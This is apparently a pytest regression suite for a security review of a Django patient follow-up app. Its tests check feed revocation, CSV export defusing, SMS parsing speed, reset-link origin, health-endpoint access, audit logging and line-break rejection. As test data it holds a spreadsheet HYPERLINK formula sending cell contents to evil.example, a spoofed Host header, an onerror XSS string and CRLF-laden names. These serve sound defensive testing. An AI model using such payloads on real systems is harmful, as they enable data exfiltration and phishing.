"""The security review of the first release (issue 12): each finding, and the two extras, held by a
test named for it. Logs are in test_secret_urls_in_logs.py, opt-outs in test_opt_out_consent.py and
text templates in test_text_templates_unescaped.py."""

import csv
import io
import time
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from followup.calendar import feeds
from followup.messaging import delivery, inbound
from followup.models import AccessLog, Clinic, Heartbeat, InboundMessage, Membership, Patient, Procedure, User

from .conftest import PASSWORD, api_client_for, at, make_patient

RANGE = {"start": "2026-02-01", "end": "2026-03-31"}


class FormValues(HTMLParser):
    """What a browser would submit, unchanged, from the admin's change form (`<form id="..._form">`)."""

    def __init__(self):
        super().__init__()
        self.values, self.select, self.textarea, self.inside = {}, None, None, False

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self.inside = (attrs.get("id") or "").endswith("_form")
        if not self.inside or not attrs.get("name") and tag != "option":
            return
        if tag == "input":
            kind = attrs.get("type", "text")
            if kind in ("checkbox", "radio") and "checked" not in attrs:
                return
            if kind not in ("submit", "button", "file"):
                self.values[attrs["name"]] = attrs.get("value", "on" if kind == "checkbox" else "")
        elif tag == "select":
            self.select = attrs["name"]
            self.values.setdefault(self.select, "")
        elif tag == "option" and self.select and "selected" in attrs:
            self.values[self.select] = attrs.get("value", "")
        elif tag == "textarea":
            self.textarea = attrs["name"]
            self.values[self.textarea] = ""

    def handle_endtag(self, tag):
        if tag == "select":
            self.select = None
        elif tag == "textarea":
            self.textarea = None
        elif tag == "form":
            self.inside = False

    def handle_data(self, data):
        if self.textarea:
            self.values[self.textarea] += data


def admin_form(client, url):
    """The admin change form's current values, as the browser would post them back."""
    response = client.get(url)
    assert response.status_code == 200
    parser = FormValues()
    parser.feed(response.text)
    return parser.values


@pytest.fixture
def root(db):
    return User.objects.create_superuser("root", "root@example.org", PASSWORD)


# --- 1. Revoked calendar feeds come back ----------------------------------------------------------


@pytest.fixture
def leaked_feed(nina):
    feed = feeds.create_feed(nina)
    feeds.revoke_feed(feed)
    return feed


def test_a_revoked_calendar_feed_cannot_be_brought_back_in_the_admin(client, root, leaked_feed):
    client.force_login(root)
    url = reverse("admin:followup_calendarfeed_change", args=[leaked_feed.pk])
    form = admin_form(client, url)
    form.update({"revoked_at_0": "", "revoked_at_1": "", "revoked_at": ""})
    client.post(url, form)
    leaked_feed.refresh_from_db()
    assert leaked_feed.revoked_at is not None
    assert client.get(reverse("calendar-feed", args=[leaked_feed.token])).status_code == 404


def test_a_revoked_calendar_feed_cannot_be_brought_back_through_the_api(nina, leaked_feed):
    api = api_client_for(nina)
    for method in (api.patch, api.put):
        response = method(f"/api/v1/calendar-feeds/{leaked_feed.pk}/", {"revoked_at": None}, format="json")
        assert response.status_code == 405
    leaked_feed.refresh_from_db()
    assert leaked_feed.revoked_at is not None


def test_a_leaked_feed_is_revoked_from_the_admin_list(client, root, nina):
    feed = feeds.create_feed(nina)
    client.force_login(root)
    response = client.post(reverse("admin:followup_calendarfeed_changelist"),
                           {"action": "revoke_feeds", "_selected_action": [feed.pk]}, follow=True)
    assert response.status_code == 200
    feed.refresh_from_db()
    assert feed.revoked_at is not None
    assert feeds.live_feed(feed.token) is None


# --- 2. CSV headers are not neutralised ----------------------------------------------------------


def test_a_clinic_name_in_a_csv_header_cell_is_defused(client, leo, riverside):
    evil = Clinic.objects.create(name='=HYPERLINK("http://evil.example/?"&A2,"x")', phone="+12025550160",
                                 time_zone="America/New_York")
    Membership.objects.create(user=leo, clinic=evil, role=Membership.Role.LEAD)
    Procedure.objects.create(patient=make_patient(evil, "EV-1", "Eve", "Evans"), performed_at=at("2026-03-02 15:00"))
    client.force_login(leo)
    response = client.get("/reports/export/drainages.csv", {**RANGE, "period": "month"})
    header = next(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert "'" + evil.name in header
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)


# --- 3. Quadratic parsing of SMS bodies ----------------------------------------------------------


@pytest.mark.parametrize("body", [
    "a" * 100_000,  # one endless word: the old pattern retried it from every letter
    "pain " + " " * 100_000 + "x",  # an endless gap between a word and its score
    "pain 8 " * 14_285,  # endless scores
    "dolor" * 20_000,
])
def test_a_100000_character_text_is_parsed_in_under_100_ms(body):
    started = time.perf_counter()
    inbound.symptom_scores(body)
    inbound.classify(body)
    elapsed = time.perf_counter() - started
    assert elapsed < 0.1, f"{elapsed:.3f} s"


def test_an_inbound_text_is_cut_to_1600_characters_before_it_is_read(alice):
    # Twilio never sends more than 1,600 characters: what lies past them is not read, only dropped.
    body = "pain 8" + " " * 1_594 + "and more since the fall"
    inbound.receive(provider_id="SM-long-1", from_number="+12025550101", body=body)
    message = InboundMessage.objects.get(provider_id="SM-long-1")
    assert message.body == body[:1600]
    assert message.kind == InboundMessage.Kind.SYMPTOMS
    assert alice.symptom_reports.get().pain == 8


@pytest.mark.parametrize(("body", "scores"), [
    ("pain 8", {"pain": 8}), ("Pain: 8, nausea=5", {"pain": 8, "nausea": 5}), ("dolor 7 ansiedad - 4", {"pain": 7, "anxiety": 4}),
    ("pain8nausea5", {"pain": 8, "nausea": 5}), ("pain 8 since the fall", None), ("pain 11", None), ("pain 100", None),
    ("pain 8 pain 3", None), ("pain, 8", None), ("8 pain", None), ("pain - - 8", None), ("hello", None), ("", None),
    ("  pain 0 ! ", {"pain": 0}), ("pain 08", {"pain": 8}), ("pain 8 5", None), ("pain 8_", None),
])
def test_the_linear_score_parser_reads_what_the_old_one_read(body, scores):
    assert inbound.symptom_scores(body) == scores


# --- 5. Password-reset links from the Host header ------------------------------------------------


def test_a_password_reset_link_is_built_from_site_url_not_the_host_header(client, nina, settings):
    settings.ALLOWED_HOSTS = ["*"]  # a permissive host list, or a proxy passing any Host through
    settings.SITE_URL = "https://followup.example.org"
    client.post(reverse("password_reset"), {"email": nina.email}, HTTP_HOST="evil.example")
    [message] = mail.outbox
    assert "evil.example" not in message.body
    assert "https://followup.example.org/password/reset/" in message.body


# --- 7. Counts on /healthz -----------------------------------------------------------------------


@pytest.fixture
def ticking(db):
    Heartbeat.beat(delivery.TICK, timezone.now() - timedelta(seconds=30))


def test_healthz_shows_no_reminder_counts_without_credentials(client, ticking, settings):
    settings.METRICS_TOKEN = "a-metrics-token-of-some-length"
    for headers in ({}, {"HTTP_AUTHORIZATION": "Bearer wrong-token-of-some-length"}):
        response = client.get("/healthz", **headers)
        body = response.json()
        assert response.status_code == 200
        assert "reminders" not in body
        assert {"database", "broker", "last_tick", "tick", "status"} <= set(body)


def test_healthz_shows_reminder_counts_with_the_metrics_token(client, ticking, settings):
    settings.METRICS_TOKEN = "a-metrics-token-of-some-length"
    response = client.get("/healthz", HTTP_AUTHORIZATION="Bearer a-metrics-token-of-some-length")
    assert set(response.json()["reminders"]) == {"due", "sending", "sent", "failed", "unknown", "expired"}


def test_healthz_shows_reminder_counts_to_a_staff_session(client, ticking, root, nina):
    client.force_login(nina)
    assert "reminders" not in client.get("/healthz").json()  # a nurse is not an operator
    client.force_login(root)
    assert "reminders" in client.get("/healthz").json()


# --- 8. Free text in the append-only audit log ---------------------------------------------------


def test_an_unknown_status_in_the_url_writes_nothing_to_the_audit_log(client, nina, alice):
    client.force_login(nina)
    response = client.get(f"/patients/{alice.pk}/status/\"><img src=x onerror=alert(1)>/")
    assert response.status_code == 404
    assert not AccessLog.objects.filter(patient=alice).exists()
    client.get(f"/patients/{alice.pk}/status/paused/")
    assert list(AccessLog.objects.filter(patient=alice).values_list("what", flat=True)) == ["status: paused"]


# --- Line breaks in MRNs and names ---------------------------------------------------------------


@pytest.mark.parametrize(("field", "value"), [
    ("mrn", "RV-2001\r\nRV-2002"), ("given_name", "Eve\nAdmin"), ("family_name", "Evans\rX"),
])
def test_a_line_break_in_an_mrn_or_name_is_refused_on_the_form(client, nina, riverside, field, value):
    from .test_views_patients import NEW_PATIENT

    client.force_login(nina)
    response = client.post(reverse("add_patient"), {**NEW_PATIENT, "clinic": riverside.pk, field: value})
    assert response.status_code == 200
    assert "without line breaks" in str(response.context["form"].errors[field])
    assert not Patient.objects.filter(clinic=riverside, mrn__startswith="RV-2001").exists()


@pytest.mark.parametrize(("field", "value"), [
    ("mrn", "RV-1009\nRV-1010"), ("given_name", "Iris\r\nAdmin"), ("family_name", "Irwin\n"),
])
def test_a_line_break_in_an_mrn_or_name_is_refused_by_the_api(as_nina, riverside, field, value):
    from .test_api_patients import new_patient

    response = as_nina.post("/api/v1/patients/", {**new_patient(riverside), field: value + "x"}, format="json")
    assert response.status_code == 400
    assert "without line breaks" in str(response.json()[field])
    assert not Patient.objects.filter(clinic=riverside).exists()


def test_a_line_break_in_a_name_is_refused_when_changed_through_the_api(as_nina, alice):
    response = as_nina.patch(f"/api/v1/patients/{alice.pk}/", {"family_name": "Archer\nX"}, format="json")
    assert response.status_code == 400
    alice.refresh_from_db()
    assert alice.family_name == "Archer"


def test_a_line_break_in_a_caregivers_name_is_refused_on_the_form(client, nina, alice):
    client.force_login(nina)
    response = client.post(reverse("add_caregiver", args=[alice.pk]), {
        "name": "Dora\r\nArcher", "relationship": "daughter", "mobile": "+1 202 555 0111", "email": "",
        "preferred_channel": "sms", "language": "en", "receives_reminders": "on", "consent": "on", "consent_source": "verbal",
    })
    assert "without line breaks" in str(response.context["form"].errors["name"])
    assert not alice.caregivers.exists()


# --- 404 pages under DEBUG -----------------------------------------------------------------------


def test_a_404_page_under_debug_has_the_same_headers_as_every_other_page(client, settings):
    settings.DEBUG = True
    page = client.get(reverse("login"))
    missing = client.get("/no-such-page/")
    assert missing.status_code == 404
    for header in ("Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options", "Referrer-Policy"):
        assert missing.headers.get(header) == page.headers.get(header) is not None, header


# --- 6. Console backends in production -----------------------------------------------------------


@pytest.mark.parametrize(("setting", "console"), [
    ("SMS_BACKEND", "followup.messaging.backends.console.SmsBackend"),
    ("EMAIL_BACKEND", "django.core.mail.backends.console.EmailBackend"),
])
def test_production_refuses_to_start_on_a_console_backend(setting, console):
    from .test_security_settings import PRODUCTION, run_django

    result = run_django("print('started')", **{**PRODUCTION, setting: console})
    assert result.returncode != 0 and "started" not in result.stdout
    assert f"{setting} is a console backend" in result.stderr and "ALLOW_CONSOLE_BACKENDS" in result.stderr


def test_production_starts_on_a_console_backend_only_when_allowed_explicitly():
    from .test_security_settings import PRODUCTION, run_django

    result = run_django("print('started')", **{**PRODUCTION, "SMS_BACKEND": "followup.messaging.backends.console.SmsBackend",
                                               "EMAIL_BACKEND": "django.core.mail.backends.console.EmailBackend",
                                               "ALLOW_CONSOLE_BACKENDS": "true"})
    assert result.returncode == 0, result.stderr
    assert "started" in result.stdout


def test_development_starts_on_the_console_backends(tmp_path):
    from .test_security_settings import run_django

    result = run_django("from django.conf import settings; print(settings.SMS_BACKEND, settings.EMAIL_BACKEND)",
                        SMS_BACKEND="followup.messaging.backends.console.SmsBackend",
                        EMAIL_BACKEND="django.core.mail.backends.console.EmailBackend")
    assert result.returncode == 0, result.stderr
    assert "console.SmsBackend" in result.stdout
